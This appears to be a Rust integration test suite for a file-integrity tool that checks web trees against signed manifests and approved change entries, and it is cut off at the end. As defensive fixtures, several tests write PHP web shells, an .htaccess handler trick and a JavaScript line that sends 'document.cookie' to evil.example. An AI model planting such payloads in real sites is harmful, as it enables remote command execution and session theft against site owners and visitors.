//! `driftwatch check` driven end to end: real trees, real signed manifests, real change entries.

mod common;

use std::fs::{self, File, FileTimes};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::time::{Duration, SystemTime};

use common::*;

// ---------------------------------------------------------------------------------------------
// What changed: every kind of drift a user must see.
// ---------------------------------------------------------------------------------------------

#[test]
fn unchanged_tree_is_clean_and_fully_vetted() {
    let fx = Fx::new();
    fx.build_manifest();
    let out = fx.check(&[]);
    out.expect_code(0);
    let r = out.json();
    assert!(changes(&r).is_empty(), "no changes expected:\n{r:#}");
    assert_eq!(r["vetted_ratio"].as_f64(), Some(1.0), "{r:#}");
    assert_eq!(r["tree"], TREE);
    assert_eq!(r["host"], HOST);
    assert_eq!(r["release"], "r1");
    assert_eq!(r["manifest_signed"], true);
    assert_eq!(r["summary"]["unauthorized"], 0);
    assert_eq!(r["scanned"]["files"], STANDARD_TREE.len() as u64);
}

#[test]
fn web_shell_in_uploads_is_added_and_unauthorized() {
    let fx = Fx::new();
    fx.build_manifest();
    let shell = b"<?php system($_GET['c']); ?>\n";
    fx.write("wp-content/uploads/x.php", shell);
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "wp-content/uploads/x.php");
    assert_eq!(c["change"], "added");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["type"], "file");
    assert_eq!(c["size"], shell.len() as u64);
    assert_eq!(c["blake3"], blake3_hex(shell));
    assert_eq!(changes(&r).len(), 1, "only the shell changed:\n{r:#}");
    assert_eq!(r["summary"]["added"], 1);
    assert_eq!(r["summary"]["unauthorized"], 1);
    let ratio = r["vetted_ratio"].as_f64().expect("vetted_ratio");
    assert!(ratio < 1.0 && ratio > 0.0, "{ratio}");
}

#[test]
fn code_appended_to_js_is_modified() {
    let fx = Fx::new();
    fx.build_manifest();
    let before = fs::read(fx.path("app/checkout.js")).unwrap();
    fx.append(
        "app/checkout.js",
        b"fetch('https://evil.example/'+document.cookie);\n",
    );
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "app/checkout.js");
    assert_eq!(c["change"], "modified");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["expected"]["size"], before.len() as u64);
    assert_eq!(c["expected"]["blake3"], blake3_hex(&before));
    let after = fs::read(fx.path("app/checkout.js")).unwrap();
    assert_eq!(c["actual"]["size"], after.len() as u64);
    assert_eq!(c["actual"]["blake3"], blake3_hex(&after));
}

#[test]
fn same_size_edit_with_mtime_put_back_is_modified() {
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.path("app/checkout.js");
    let original = fs::read(&p).unwrap();
    let mtime = fs::metadata(&p).unwrap().modified().unwrap();
    let mut evil = original.clone();
    evil[0] = b'F'; // "function" -> "Function": same size, different content
    fs::write(&p, &evil).unwrap();
    // `touch -r`: put the mtime back.
    File::options()
        .write(true)
        .open(&p)
        .unwrap()
        .set_times(FileTimes::new().set_modified(mtime))
        .unwrap();
    assert_eq!(fs::metadata(&p).unwrap().modified().unwrap(), mtime);
    assert_eq!(fs::metadata(&p).unwrap().len(), original.len() as u64);
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "app/checkout.js");
    assert_eq!(c["change"], "modified", "{r:#}");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["actual"]["blake3"], blake3_hex(&evil));
}

#[test]
fn mtime_only_touch_is_not_drift() {
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.path("index.php");
    let later = SystemTime::now() + Duration::from_secs(3600);
    File::options()
        .write(true)
        .open(&p)
        .unwrap()
        .set_times(FileTimes::new().set_modified(later).set_accessed(later))
        .unwrap();
    let out = fx.check(&[]);
    out.expect_code(0);
    let r = out.json();
    assert!(changes(&r).is_empty(), "a touch is not a change:\n{r:#}");
    assert_eq!(r["vetted_ratio"].as_f64(), Some(1.0));
}

#[test]
fn setuid_bit_is_metadata() {
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.path("index.php");
    let before = fs::metadata(&p).unwrap().permissions().mode() & 0o7777;
    fs::set_permissions(&p, fs::Permissions::from_mode(0o4755)).unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "index.php");
    assert_eq!(c["change"], "metadata", "{r:#}");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["expected"]["mode"], format!("{before:04o}"));
    assert_eq!(c["actual"]["mode"], "4755");
}

#[test]
fn chown_is_metadata() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!(
            "note: chown_is_metadata skipped: needs root to chown (CI and the dev box run as root)"
        );
        return;
    }
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.path("app/boot.php");
    std::os::unix::fs::chown(&p, Some(4242), Some(4243)).unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "app/boot.php");
    assert_eq!(c["change"], "metadata", "{r:#}");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["actual"]["uid"], 4242);
    assert_eq!(c["actual"]["gid"], 4243);
    assert_ne!(c["expected"]["uid"], 4242);
}

#[test]
fn deleted_file_is_removed() {
    let fx = Fx::new();
    fx.build_manifest();
    fs::remove_file(fx.path("app/lib/util.js")).unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "app/lib/util.js");
    assert_eq!(c["change"], "removed");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["expected"]["type"], "file");
    assert_eq!(r["summary"]["removed"], 1);
}

#[test]
fn file_swapped_for_symlink_is_type_changed() {
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.path("app/boot.php");
    fs::remove_file(&p).unwrap();
    symlink("/tmp/evil-boot.php", &p).unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "app/boot.php");
    assert_eq!(c["change"], "type_changed", "{r:#}");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["expected"]["type"], "file");
    assert_eq!(c["actual"]["type"], "symlink");
    assert_eq!(c["actual"]["target"], "/tmp/evil-boot.php");
}

#[test]
fn new_hard_link_to_existing_file_is_added() {
    let fx = Fx::new();
    fx.build_manifest();
    fs::hard_link(
        fx.path("index.php"),
        fx.path("wp-content/uploads/index.php"),
    )
    .unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "wp-content/uploads/index.php");
    assert_eq!(c["change"], "added");
    assert_eq!(c["status"], "unauthorized");
    assert_eq!(c["type"], "file");
    assert_eq!(
        c["blake3"],
        blake3_hex(&fs::read(fx.path("index.php")).unwrap())
    );
    assert_eq!(changes(&r).len(), 1, "the original is unchanged:\n{r:#}");
}

#[test]
fn fifo_in_tree_does_not_hang_and_is_reported() {
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.path("wp-content/uploads/pipe");
    let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
    // `run` kills the child and fails the test after RUN_TIMEOUT (20 s) if it blocks on the FIFO.
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "wp-content/uploads/pipe");
    assert_eq!(c["change"], "added");
    assert_eq!(c["type"], "fifo");
    assert_eq!(c["status"], "unauthorized");
}

#[test]
fn fifo_in_tree_does_not_hang_manifest_build() {
    let fx = Fx::new();
    let p = fx.path("run/pipe");
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
    fx.build_manifest();
    fx.check(&[]).expect_code(0);
}

#[test]
fn symlink_loop_does_not_hang_and_is_reported_as_added_symlinks() {
    let fx = Fx::new();
    fx.build_manifest();
    symlink("b", fx.path("wp-content/uploads/a")).unwrap();
    symlink("a", fx.path("wp-content/uploads/b")).unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    for (name, target) in [("a", "b"), ("b", "a")] {
        let c = change(&r, &format!("wp-content/uploads/{name}"));
        assert_eq!(c["change"], "added");
        assert_eq!(c["type"], "symlink");
        assert_eq!(c["target"], target);
        assert_eq!(c["status"], "unauthorized");
    }
}

#[test]
fn deep_tree_of_200_levels_builds_and_checks_clean() {
    let fx = Fx::new();
    let mut rel = std::path::PathBuf::from("deep");
    for i in 0..199 {
        rel.push(format!("d{}", i % 10));
    }
    fx.write(rel.join("bottom.txt"), b"at the bottom\n");
    fx.build_manifest();
    let out = fx.check(&[]);
    out.expect_code(0);
    let r = out.json();
    assert!(changes(&r).is_empty(), "{r:#}");
    assert!(r["scanned"]["dirs"].as_u64().unwrap() >= 200, "{r:#}");
    // and a change at the bottom is seen
    fx.append(rel.join("bottom.txt"), b"more\n");
    let r = fx.check(&[]).expect_code(1).json();
    let path = format!("{}/bottom.txt", rel.to_str().unwrap());
    assert_eq!(change(&r, &path)["change"], "modified");
}

#[test]
fn non_utf8_name_round_trips_through_path_bytes() {
    let fx = Fx::new();
    fx.build_manifest();
    let rel: &[u8] = b"wp-content/uploads/sh\xffell\xfe.php";
    fs::write(fx.root.join(bytes_path(rel)), b"<?php eval($_POST[1]);").unwrap();
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = changes(&r)
        .iter()
        .find(|c| c.get("path_bytes").is_some())
        .unwrap_or_else(|| panic!("no change with path_bytes:\n{r:#}"));
    let back = hex::decode(c["path_bytes"].as_str().unwrap()).expect("path_bytes is hex");
    assert_eq!(back, rel, "path_bytes must round-trip to the exact name");
    assert_eq!(c["path"], String::from_utf8_lossy(rel).as_ref());
    assert_eq!(c["change"], "added");
    assert_eq!(c["status"], "unauthorized");
}

#[test]
fn non_utf8_name_in_manifest_checks_clean() {
    let fx = Fx::new();
    fs::write(
        fx.root.join(bytes_path(b"app/caf\xe9.php")),
        b"<?php // latin-1 name",
    )
    .unwrap();
    fx.build_manifest();
    let r = fx.check(&[]).expect_code(0).json();
    assert!(changes(&r).is_empty(), "{r:#}");
}

#[test]
fn name_with_newline_is_reported_exactly() {
    let fx = Fx::new();
    fx.build_manifest();
    fx.write("wp-content/uploads/innocent.png\nx.php", b"<?php ?>");
    let out = fx.check(&[]);
    out.expect_code(1);
    let r = out.json();
    let c = change(&r, "wp-content/uploads/innocent.png\nx.php");
    assert_eq!(c["change"], "added");
    assert!(
        c.get("path_bytes").is_none(),
        "valid UTF-8 needs no path_bytes: {c}"
    );
}

#[test]
fn changes_are_sorted_by_path_and_counted() {
    let fx = Fx::new();
    fx.build_manifest();
    fx.write("zz.php", b"z");
    fx.write("aa.php", b"a");
    fs::remove_file(fx.path("app/lib/util.js")).unwrap();
    fx.append("app/checkout.js", b"//x\n");
    let r = fx.check(&[]).expect_code(1).json();
    let paths: Vec<&str> = changes(&r)
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    let mut sorted = paths.clone();
    sorted.sort();
    assert_eq!(paths, sorted);
    assert_eq!(
        paths,
        ["aa.php", "app/checkout.js", "app/lib/util.js", "zz.php"]
    );
    let s = &r["summary"];
    assert_eq!(
        (
            s["added"].as_u64(),
            s["removed"].as_u64(),
            s["modified"].as_u64()
        ),
        (Some(2), Some(1), Some(1))
    );
    assert_eq!(s["unauthorized"], 4);
}

#[test]
fn without_pubkey_runs_unsigned_and_says_so() {
    let fx = Fx::new();
    fx.build_manifest();
    let out = fx.check_with(&fx.manifest, false, &[]);
    out.expect_code(0);
    assert_eq!(out.json()["manifest_signed"], false);
    let w = out.warnings();
    assert!(
        w.iter().any(|l| l.contains(fx.manifest.to_str().unwrap())),
        "a warning must name the unsigned manifest:\n{}",
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// Exclusions and the manifest living inside the tree.
// ---------------------------------------------------------------------------------------------

#[test]
fn exclude_double_star_hides_changes_under_it() {
    let fx = Fx::new();
    fx.build_manifest();
    fx.write("var/cache/new.html", b"<html>new</html>");
    fx.append("var/cache/page.html", b"changed");
    fx.write("var/cache/sub/dir/deep.html", b"deep");
    let out = fx.check(&["--exclude", "var/cache/**"]);
    out.expect_code(0);
    let r = out.json();
    assert!(
        changes(&r)
            .iter()
            .all(|c| !c["path"].as_str().unwrap().starts_with("var/cache/")
                || c["status"] == "excluded"),
        "nothing under var/cache may be reported as drift:\n{r:#}"
    );
    assert_eq!(r["summary"]["unauthorized"], 0);
    // without the exclusion the same tree drifts
    fx.check(&[]).expect_code(1);
}

/// The var/cache drift of [`exclude_double_star_hides_changes_under_it`].
fn cache_drift(fx: &Fx) {
    fx.write("var/cache/new.html", b"<html>new</html>");
    fx.append("var/cache/page.html", b"changed");
    fx.write("var/cache/sub/dir/deep.html", b"deep");
}

#[test]
fn exclusions_recorded_in_the_manifest_apply_without_exclude() {
    let fx = Fx::new();
    fx.build_manifest_to(
        &fx.manifest,
        &["--exclude", "var/cache/**", "--exclude", "var/log/**"],
    );
    let text = fs::read_to_string(&fx.manifest).unwrap();
    let m: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        m["exclude"],
        serde_json::json!(["var/cache/**", "var/log/**"]),
        "{text}"
    );
    assert!(
        !text.contains("var/cache/page.html"),
        "excluded paths are not approved: {text}"
    );
    run([
        os("verify"),
        fx.manifest.as_os_str(),
        os("--pubkey"),
        fx.release.public.as_os_str(),
    ])
    .expect_code(0);

    cache_drift(&fx);
    // Checked without --exclude: the release's own exclusions hide the cache.
    let r = fx.check(&[]).expect_code(0).json();
    assert!(
        changes(&r)
            .iter()
            .all(|c| !c["path"].as_str().unwrap().starts_with("var/cache")),
        "{r:#}"
    );
    assert_eq!(r["summary"]["unauthorized"], 0, "{r:#}");
    // Counted as excluded, exactly as a --exclude of the same glob counts them.
    let plain = fx.base.join("plain.json");
    fx.build_manifest_to(&plain, &[]);
    let by_flag = fx
        .check_with(&plain, true, &["--exclude", "var/cache/**"])
        .expect_code(0)
        .json();
    assert_eq!(
        r["summary"]["excluded"], by_flag["summary"]["excluded"],
        "{r:#}"
    );
    assert!(r["summary"]["excluded"].as_u64().unwrap() >= 4, "{r:#}");
    // The host's own exclusions still add to the manifest's.
    fx.write("app/x.php", b"<?php");
    fx.check(&[]).expect_code(1);
    fx.check(&["--exclude", "app/x.php"]).expect_code(0);
    // Unsigned runs apply them too.
    fx.check_with(&fx.manifest, false, &["--exclude", "app/x.php"])
        .expect_code(0);
}

#[test]
fn manifest_exclusions_are_covered_by_the_signature() {
    let fx = Fx::new();
    fx.build_manifest_to(&fx.manifest, &["--exclude", "var/cache/**"]);
    // An attacker widening the release's exclusions to hide his upload breaks the signature.
    fx.write("wp-content/uploads/x.php", b"<?php system($_GET['c']);");
    let text = fs::read_to_string(&fx.manifest).unwrap();
    let widened = text.replace("[\"var/cache/**\"]", "[\"var/cache/**\",\"wp-content/**\"]");
    assert_ne!(widened, text);
    fs::write(&fx.manifest, widened).unwrap();
    let line = fx.check(&[]).error_line().to_string();
    assert!(line.contains(fx.manifest.to_str().unwrap()), "{line}");
}

#[test]
fn manifest_without_exclusions_keeps_its_old_form() {
    let fx = Fx::new();
    fx.build_manifest();
    let text = fs::read_to_string(&fx.manifest).unwrap();
    assert!(!text.contains("exclude"), "{text}");
    assert!(
        text.contains("\"created_by\":\"ci@test\",\n \"entries\":["),
        "{text}"
    );
}

#[test]
fn bad_manifest_exclusions_are_errors_naming_file_and_field() {
    let fx = Fx::new();
    fx.build_manifest();
    let text = fs::read_to_string(&fx.manifest).unwrap();
    let at = "\"created_by\":\"ci@test\",";
    for (value, field) in [
        ("7", "exclude"),
        ("[\"a/[\"]", "exclude[0]"),
        ("[\"var/**\", 3]", "exclude[1]"),
    ] {
        // Canonical (the header line) and not (one line, whole file): both are refused.
        for bad in [
            text.replacen(at, &format!("{at}\"exclude\":{value},"), 1),
            text.replacen(at, &format!("{at}\"exclude\":{value},"), 1)
                .replace('\n', ""),
        ] {
            fs::write(&fx.manifest, &bad).unwrap();
            let out = fx.check_with(&fx.manifest, false, &[]);
            let line = out.error_line();
            let want = format!("{}: {field}: ", fx.manifest.display());
            assert!(line.contains(&want), "{line} should contain {want}");
        }
    }
}

#[test]
fn exclude_single_star_does_not_hide_deeper_paths() {
    let fx = Fx::new();
    fx.write("cache/a/b/keep.txt", b"keep");
    fx.build_manifest();
    fx.write("cache/a/b/evil.so", b"\x7fELF evil");
    let out = fx.check(&["--exclude", "cache/*"]);
    let r = out.json();
    out.expect_code(1);
    let c = change(&r, "cache/a/b/evil.so");
    assert_eq!(c["change"], "added");
    assert_eq!(c["status"], "unauthorized");
}

#[test]
fn exclude_single_star_still_hides_direct_children() {
    let fx = Fx::new();
    fx.write("cache/keep.txt", b"keep");
    fx.build_manifest();
    fx.write("cache/fresh.html", b"fresh");
    let r = fx.check(&["--exclude", "cache/*"]).expect_code(0).json();
    assert!(
        changes(&r)
            .iter()
            .all(|c| c["path"] != "cache/fresh.html" || c["status"] == "excluded"),
        "{r:#}"
    );
}

#[test]
fn manifest_inside_the_tree_is_not_reported() {
    let fx = Fx::new();
    fs::create_dir_all(fx.path(".driftwatch")).unwrap();
    let inside = fx.path(".driftwatch/manifest.json");
    fx.build_manifest_to(&inside, &[]);
    assert!(fx.path(".driftwatch/manifest.json.minisig").exists());
    let out = fx.check_with(&inside, true, &[]);
    out.expect_code(0);
    let r = out.json();
    assert!(
        changes(&r).is_empty(),
        "the manifest and its signature are not drift:\n{r:#}"
    );
    // but anything else in .driftwatch is (attackers hide in dotfiles)
    fx.write(".driftwatch/x.php", b"<?php");
    let r = fx.check_with(&inside, true, &[]).expect_code(1).json();
    assert_eq!(status_of(&r, ".driftwatch/x.php"), "unauthorized");
    assert_eq!(changes(&r).len(), 1, "{r:#}");
}

#[test]
fn hidden_dotfiles_are_seen() {
    let fx = Fx::new();
    fx.build_manifest();
    fx.write(
        "wp-content/uploads/.htaccess",
        b"AddHandler php-script .png",
    );
    let r = fx.check(&[]).expect_code(1).json();
    assert_eq!(
        status_of(&r, "wp-content/uploads/.htaccess"),
        "unauthorized"
    );
}

// ---------------------------------------------------------------------------------------------
// Errors: exit 2, exactly one stderr line naming the file, no panic.
// ---------------------------------------------------------------------------------------------

#[test]
fn tampered_manifest_with_old_signature_is_an_error() {
    let fx = Fx::new();
    fx.build_manifest();
    // The attacker adds his shell to the manifest and keeps the old signature.
    let shell = b"<?php system($_GET['c']);";
    fx.write("wp-content/uploads/x.php", shell);
    let m = fs::read_to_string(&fx.manifest).unwrap();
    let entry = format!(
        "{{\"path\":\"wp-content/uploads/x.php\",\"type\":\"file\",\"size\":{},\"mode\":\"0644\",\"blake3\":\"{}\"}}",
        shell.len(),
        blake3_hex(shell)
    );
    let tampered = m.replacen(
        "\"entries\":[\n  ",
        &format!("\"entries\":[\n  {entry},\n  "),
        1,
    );
    assert_ne!(tampered, m, "tampering must change the manifest");
    fs::write(&fx.manifest, tampered).unwrap();
    let out = fx.check(&[]);
    let line = out.error_line();
    assert!(
        line.contains(fx.manifest.to_str().unwrap()),
        "must name the manifest: {line}"
    );
}

#[test]
fn manifest_signed_by_untrusted_key_is_an_error() {
    let fx = Fx::new();
    fx.build_manifest();
    let other = keygen(&fx.base.join("keys/other"));
    let out = run([
        os("check"),
        os("--root"),
        fx.root.as_os_str(),
        os("--manifest"),
        fx.manifest.as_os_str(),
        os("--pubkey"),
        other.public.as_os_str(),
        os("--host"),
        os(HOST),
        os("--format"),
        os("json"),
    ]);
    let line = out.error_line();
    assert!(
        line.contains(fx.manifest.to_str().unwrap()),
        "must name the manifest: {line}"
    );
}

#[test]
fn unsigned_manifest_with_pubkey_is_an_error() {
    let fx = Fx::new();
    let o = run([
        os("manifest"),
        os("build"),
        os("--root"),
        fx.root.as_os_str(),
        os("--release"),
        os("r1"),
        os("--tree"),
        os(TREE),
        os("-o"),
        fx.manifest.as_os_str(),
    ]);
    o.expect_code(0);
    assert!(!fx.base.join("manifest.json.minisig").exists());
    let out = fx.check(&[]);
    let line = out.error_line();
    assert!(
        line.contains(fx.manifest.to_str().unwrap()),
        "must name the manifest: {line}"
    );
}

#[test]
fn truncated_manifest_json_is_an_error() {
    let fx = Fx::new();
    fx.build_manifest();
    let m = fs::read(&fx.manifest).unwrap();
    fs::write(&fx.manifest, &m[..m.len() / 2]).unwrap();
    // unsigned run: the parser, not the signature check, must catch it
    let out = fx.check_with(&fx.manifest, false, &[]);
    let line = out.error_line();
    assert!(
        line.contains(fx.manifest.to_str().unwrap()),
        "must name the manifest: {line}"
    );
    // and signed: the signature no longer matches
    let out = fx.check(&[]);
    let line = out.error_line();
    assert!(
        line.contains(fx.manifest.to_str().unwrap()),
        "must name the manifest: {line}"
    );
}

#[test]
fn missing_manifest_is_an_error() {
    let fx = Fx::new();
    let missing = fx.base.join("nope.json");
    let out = fx.check_with(&missing, true, &[]);
    let line = out.error_line();
    assert!(
        line.contains(missing.to_str().unwrap()),
        "must name the manifest: {line}"
    );
}

#[test]
fn missing_root_is_an_error() {
    let fx = Fx::new();
    fx.build_manifest();
    let root = fx.root.clone();
    fs::remove_dir_all(&root).unwrap();
    let out = fx.check(&[]);
    let line = out.error_line();
    assert!(
        line.contains(root.to_str().unwrap()),
        "must name the root: {line}"
    );
}

#[test]
fn root_that_is_a_file_is_an_error() {
    let fx = Fx::new();
    fx.build_manifest();
    let root = fx.root.clone();
    fs::remove_dir_all(&root).unwrap();
    fs::write(&root, b"not a dir").unwrap();
    let line = fx.check(&[]).error_line().to_string();
    assert!(
        line.contains(root.to_str().unwrap()),
        "must name the root: {line}"
    );
}

/// A garbage entry: exit 2, one line naming the entry file and `want` (the field or line).
#[track_caller]
fn assert_bad_entry(text: &str, want: &str) {
    let fx = Fx::new();
    fx.build_manifest();
    let p = fx.write_entry_text("CHG-9", text);
    let out = fx.check_changes(&[]);
    let line = out.error_line();
    assert!(
        line.contains(p.to_str().unwrap()),
        "must name the entry file {}: {line}",
        p.display()
    );
    assert!(line.contains(want), "must name {want:?}: {line}");
}

#[test]
fn entry_with_invalid_toml_is_an_error() {
    assert_bad_entry("id = \"CHG-9\"\nsummary = [unclosed\n", "line 2");
}

#[test]
fn entry_with_unknown_key_is_an_error() {
    let mut text = Entry::new("CHG-9", &["app/**"]).to_toml();
    text.push_str("colour = \"red\"\n");
    assert_bad_entry(&text, "colour");
}

#[test]
fn entry_ending_before_it_starts_is_an_error() {
    let mut e = Entry::new("CHG-9", &["app/**"]);
    e.start = rfc3339(3600);
    e.end = rfc3339(-3600);
    assert_bad_entry(&e.to_toml(), "end");
}

#[test]
fn entry_with_empty_paths_is_an_error() {
    let e = Entry::new("CHG-9", &[]);
    assert_bad_entry(&e.to_toml(), "paths");
}

#[test]
fn entry_with_bad_timestamp_is_an_error() {
    let mut e = Entry::new("CHG-9", &["app/**"]);
    e.start = "tonight".into();
    assert_bad_entry(&e.to_toml(), "start");
}

#[test]
fn entry_whose_id_does_not_match_its_file_is_an_error() {
    let e = Entry::new("CHG-10", &["app/**"]);
    assert_bad_entry(&e.to_toml(), "id");
}

#[test]
fn missing_changes_dir_is_an_error() {
    let fx = Fx::new();
    fx.build_manifest();
    let missing = fx.base.join("no-changes");
    let out = fx.check(&["--changes", missing.to_str().unwrap()]);
    let line = out.error_line();
    assert!(line.contains(missing.to_str().unwrap()), "{line}");
}

// ---------------------------------------------------------------------------------------------
// The change log: every rule of DESIGN §6.
// ---------------------------------------------------------------------------------------------

/// A fixture with its manifest built and `app/checkout.js` modified after it.
fn drifted() -> Fx {
    let fx = Fx::new();
    fx.build_manifest();
    fx.append("app/checkout.js", b"// hotfix: rounding\n");
    fx
}

const HOTFIX: &str = "app/checkout.js";

#[test]
fn entry_covering_host_tree_and_path_authorizes() {
    let fx = drifted();
    fx.write_entry(&Entry::new("CHG-1042", &["app/**"]));
    let out = fx.check_changes(&[]);
    out.expect_code(0);
    let r = out.json();
    assert_eq!(status_of(&r, HOTFIX), "change:CHG-1042");
    assert_eq!(r["summary"]["authorized"], 1);
    assert_eq!(r["summary"]["unauthorized"], 0);
    // without the change log the same tree drifts
    fx.check(&[]).expect_code(1);
}

#[test]
fn entry_for_another_host_does_not_authorize() {
    let fx = drifted();
    fx.write_entry(&Entry::new("CHG-1", &["app/**"]));
    let r = fx.check_changes(&["--host", "db-01"]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
    assert_eq!(r["host"], "db-01");
    // and the same entry does authorize on a host it names
    let r = fx
        .check_changes(&["--host", "web-07"])
        .expect_code(0)
        .json();
    assert_eq!(status_of(&r, HOTFIX), "change:CHG-1");
}

#[test]
fn entry_for_another_tree_does_not_authorize() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.trees = vec!["blog".into()];
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn entry_for_another_path_does_not_authorize() {
    let fx = drifted();
    fx.write_entry(&Entry::new("CHG-1", &["app/lib/**"]));
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn entry_whose_window_has_not_opened_does_not_authorize() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.start = rfc3339(3600);
    e.end = rfc3339(7200);
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn entry_whose_window_closed_before_the_release_does_not_authorize() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.start = rfc3339(-7200);
    e.end = rfc3339(-3600);
    e.approved_at = Some(rfc3339(-9000));
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn entry_approved_in_the_future_does_not_authorize() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.approved_at = Some(rfc3339(3600));
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn entry_not_approved_does_not_authorize() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.approved_by = None;
    e.approved_at = None;
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn signed_entry_authorizes_with_approver_pubkey() {
    let fx = drifted();
    let p = fx.write_entry(&Entry::new("CHG-1", &["app/**"]));
    sign(&p, &fx.cab.secret);
    let out = fx.check_changes(&["--approver-pubkey", fx.cab_pub()]);
    out.expect_code(0);
    assert_eq!(status_of(&out.json(), HOTFIX), "change:CHG-1");
    assert!(
        out.warnings().is_empty(),
        "a good signature needs no warning:\n{}",
        out.stderr
    );
}

#[test]
fn unsigned_entry_with_approver_pubkey_is_refused_with_a_warning() {
    let fx = drifted();
    let p = fx.write_entry(&Entry::new("CHG-1", &["app/**"]));
    let out = fx.check_changes(&["--approver-pubkey", fx.cab_pub()]);
    out.expect_code(1);
    assert_eq!(status_of(&out.json(), HOTFIX), "unauthorized");
    let w = out.warnings();
    assert!(
        w.iter().any(|l| l.contains(p.to_str().unwrap())),
        "a warning must name {}:\n{}",
        p.display(),
        out.stderr
    );
}

#[test]
fn entry_signed_by_wrong_key_is_refused_with_a_warning() {
    let fx = drifted();
    let p = fx.write_entry(&Entry::new("CHG-1", &["app/**"]));
    sign(&p, &fx.release.secret); // the release key is not an approver key
    let out = fx.check_changes(&["--approver-pubkey", fx.cab_pub()]);
    out.expect_code(1);
    assert_eq!(status_of(&out.json(), HOTFIX), "unauthorized");
    let w = out.warnings();
    assert!(
        w.iter().any(|l| l.contains(p.to_str().unwrap())),
        "a warning must name {}:\n{}",
        p.display(),
        out.stderr
    );
}

#[test]
fn entry_edited_after_signing_is_refused_with_a_warning() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/lib/**"]);
    let p = fx.write_entry(&e);
    sign(&p, &fx.cab.secret);
    e.paths = vec!["app/**".into()]; // widened after the approval
    fx.write_entry(&e);
    let out = fx.check_changes(&["--approver-pubkey", fx.cab_pub()]);
    out.expect_code(1);
    assert_eq!(status_of(&out.json(), HOTFIX), "unauthorized");
    assert!(
        out.warnings()
            .iter()
            .any(|l| l.contains(p.to_str().unwrap())),
        "{}",
        out.stderr
    );
}

#[test]
fn approval_after_the_change_is_retroactive() {
    let fx = drifted(); // the change happens now (its ctime) ...
    std::thread::sleep(Duration::from_millis(1100));
    // ... and is approved afterwards, to the second.
    let mut e = Entry::new("CHG-911", &["app/**"]);
    e.approved_at = Some(rfc3339(0));
    fx.write_entry(&e);
    let out = fx.check_changes(&[]);
    out.expect_code(0);
    let r = out.json();
    assert_eq!(status_of(&r, HOTFIX), "retroactive:CHG-911");
    assert_eq!(r["summary"]["authorized"], 1);
}

#[test]
fn approval_in_advance_beats_approval_after_the_fact() {
    let fx = drifted();
    std::thread::sleep(Duration::from_millis(1100));
    let mut late = Entry::new("CHG-1", &["app/**"]);
    late.approved_at = Some(rfc3339(0));
    fx.write_entry(&late);
    fx.write_entry(&Entry::new("CHG-2", &["app/**"]));
    let r = fx.check_changes(&[]).expect_code(0).json();
    assert_eq!(status_of(&r, HOTFIX), "change:CHG-2");
}

#[test]
